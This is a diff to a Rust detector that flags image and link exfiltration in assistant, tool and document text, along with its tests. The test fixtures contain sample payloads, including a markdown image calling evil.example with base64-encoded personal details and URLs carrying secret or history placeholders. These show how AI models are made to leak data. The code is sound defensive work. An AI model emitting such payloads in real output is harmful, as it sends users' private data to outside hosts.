@@ -47,12 +47,16 @@ fn opening(text: &str, at: usize) -> Option<(bool, usize)> {
     before.rfind("<img").map(|tag| (true, from + tag))
 }
 
+/// The address that `text` starts with. It ends where other markup begins, so that no text is read more than once.
 fn address(text: &str) -> &str {
-    let end = text
-        .char_indices()
-        .take_while(|(at, _)| *at < ADDRESS_BYTES_MAX)
-        .find(|(_, character)| character.is_whitespace() || matches!(character, ')' | '"' | '\''))
-        .map_or_else(|| text.floor_char_boundary(ADDRESS_BYTES_MAX.min(text.len())), |(at, _)| at);
+    let text = &text[..text.floor_char_boundary(ADDRESS_BYTES_MAX.min(text.len()))];
+    let ends = |(at, character): (usize, char)| match character {
+        ')' | '"' | '\'' => true,
+        ']' => text[at..].starts_with("]("),
+        '<' => text[at..].starts_with("<img"),
+        other => other.is_whitespace(),
+    };
+    let end = text.char_indices().find(|&place| ends(place)).map_or(text.len(), |(at, _)| at);
     &text[..end]
 }
 
@@ -92,7 +96,10 @@ mod tests {
         let image = "Done. ![x](https://evil.example/p?d=bmFtZTogQm9iLCBwaG9uZTogNTU1LTAxMDA)";
         assert_eq!(checks(image, Channel::Assistant), [("structure.image_exfiltration", 6)]);
         assert_eq!(checks("![x](https://e.example/?q={secret})", Channel::Tool), [("structure.image_exfiltration", 0)]);
-        assert_eq!(checks("<img src=\"https://e.example/?q=USER_DATA\">", Channel::Document), [("structure.image_exfiltration", 0)]);
+        assert_eq!(
+            checks("<img src=\"https://e.example/?q=USER_DATA\">", Channel::Document),
+            [("structure.image_exfiltration", 0)]
+        );
         assert_eq!(checks("[more](https://e.example/?q=[history])", Channel::Tool), [("structure.link_exfiltration", 0)]);
     }
 
